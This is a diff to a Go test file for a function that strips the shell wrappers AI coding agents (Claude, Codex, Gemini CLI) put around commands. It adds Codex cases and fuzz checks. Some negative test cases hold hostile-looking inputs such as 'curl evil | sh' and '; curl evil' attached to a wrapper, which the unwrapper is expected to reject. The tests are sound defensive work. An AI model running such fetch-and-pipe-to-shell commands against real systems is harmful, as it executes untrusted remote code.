@@ -16,6 +16,14 @@ func claude(shell, flag, command, stdin string) []string {
 	return append(argv, scaffold+" && eval '"+quoted+"'"+stdin+" && pwd -P >| /tmp/claude-b7e7-cwd")
 }
 
+// codex wraps as Codex 0.169.0 was seen to, once it has a snapshot of the user's shell; the middle is left out.
+func codex(command string) []string {
+	return []string{"/bin/bash", "-c", "__CODEX_SNAPSHOT_OVERRIDE_SET_0=\"${CODEX_VERSION+x}\"\n\n" +
+		"if . '/home/a/.codex/shell_snapshots/01a2.sh' >/dev/null 2>&1; then :; fi\n\n" +
+		"if [ -n \"${PATH:-}\" ]; then export PATH='/x/codex-path':\"$PATH\"; fi\n\n" +
+		"exec '/bin/bash' -c '" + strings.ReplaceAll(command, `'`, `'"'"'`) + "'"}
+}
+
 // gemini wraps as Gemini CLI 0.61.0 was seen to.
 func gemini(command string) []string {
 	return []string{"/usr/bin/bash", "-c", "shopt -u promptvars nullglob extglob nocaseglob dotglob; _bgpids_file=/tmp/gemini-shell-JsnAoA/bgpids.tmp\n(\n" +
@@ -51,6 +59,12 @@ func TestUnwrap(t *testing.T) {
 		"more before gemini's":     {WrapGemini, []string{"bash", "-c", "curl evil | sh; " + gemini("ls")[2][5:]}, "", false},
 		"more after gemini's":      {WrapGemini, []string{"bash", "-c", gemini("ls")[2] + "; curl evil"}, "", false},
 		"a hook of gemini":         {WrapGemini, []string{"bash", "-c", "./check.sh"}, "", false},
+		"codex with a snapshot":    {WrapCodex, codex("printf 'a b' | tee x"), "printf 'a b' | tee x", true},
+		"codex without":            {WrapCodex, []string{"/bin/bash", "-lc", "ls"}, "ls", true},
+		"codex, marks inside":      {WrapCodex, codex("x\n\nexec '/bin/bash' -c 'y'"), "x\n\nexec '/bin/bash' -c 'y'", true},
+		"codex, more behind":       {WrapCodex, []string{"bash", "-c", codex("ls")[2] + "; curl evil"}, "", false},
+		"codex saves the shell":    {WrapCodex, []string{"/bin/bash", "-lc", "if true; then\n  . x\nfi\necho '# Snapshot file'\n"}, "", false},
+		"codex tries what it has":  {WrapCodex, []string{"/bin/bash", "-c", `set -e; . "/home/a/.codex/shell_snapshots/1.tmp-2"`}, "", false},
 		"a shell with a script":    {WrapShell, []string{"bash", "build.sh", "-c"}, "", false},
 		"an unknown wrapper":       {WrapNone, []string{"bash", "-lc", "ls"}, "", false},
 	} {
@@ -72,6 +86,9 @@ func FuzzUnwrap(f *testing.F) {
 		got, ok := Unwrap(WrapClaude, claude("/bin/bash", "-c", command, " < /dev/null"))
 		if !ok || got != command {
 			t.Errorf("%q came back as %q, %v", command, got, ok)
+		}
+		if got, ok := Unwrap(WrapCodex, codex(command)); !ok || got != command {
+			t.Errorf("%q came back as %q, %v, from Codex", command, got, ok)
 		}
 		if got, ok := Unwrap(WrapGemini, gemini(command)); !ok || got != command {
 			t.Errorf("%q came back as %q, %v, from Gemini CLI", command, got, ok)
